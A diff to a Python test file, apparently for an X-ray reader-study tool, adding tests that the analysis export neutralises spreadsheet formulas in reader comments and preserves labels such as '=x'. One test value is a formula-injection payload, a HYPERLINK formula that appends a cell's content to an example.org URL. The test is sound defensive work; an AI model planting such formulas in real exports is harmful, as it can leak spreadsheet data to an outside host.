@@ -9,11 +9,13 @@ from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
 
 from xraysynth import compose
 from xraysynth.errors import ConfigError, XraysynthError
 from xraysynth.evaluation.reader_study import (
+    export_format,
     exports,
     reading,
     simulated_exports,
@@ -197,6 +199,31 @@ def test_the_page_loads_nothing_and_says_who_is_simulated(stage):
     assert "nan" not in html.lower().replace("stable_diffusion", "")
     there = {path.name for path in (output / "reviews/tb/analysis").iterdir()}
     assert set(review_analyse.FILES) <= there
+
+
+def test_no_comment_of_a_reader_is_a_formula(stage, tmp_path):
+    formula = '=HYPERLINK("http://example.org?"&A1,"see here")'
+    shutil.copytree(stage[0] / "reviews/tb/owner", tmp_path / "reviews/tb/owner")
+    sent = sorted((stage[0] / "sent").iterdir())[0]
+    names, cells = export_format.read_table(sent)
+    rows = [dict(zip(names, row, strict=True)) | {"comment": formula} for row in cells]
+    (tmp_path / sent.name).write_bytes(simulated_exports.format_csv(names, rows))
+    options = [
+        f"paths.output={tmp_path}",
+        "review.name=tb",
+        f"review.exports={tmp_path / sent.name}",
+    ]
+    review_analyse.run(Workspace(compose([*options, "tracking=none"]), options))
+    answers = pd.read_csv(tmp_path / "reviews/tb/analysis/answers.csv")
+    assert set(answers["comment"]) == {f"'{formula}"}
+
+
+def test_marks_of_any_class_survive_their_file(stage, tmp_path):
+    saved = reading.load_reading(Path(stage[2]["page"]).parent)
+    labels = ["=x", "-0.5", "'=x", "normal"] * len(saved.marks)
+    marks = saved.marks.assign(label=labels[: len(saved.marks)])
+    reading.save_reading(replace(saved, marks=marks), tmp_path)
+    pd.testing.assert_frame_equal(reading.load_reading(tmp_path).marks, marks)
 
 
 def test_the_same_answers_are_not_analysed_again(stage):
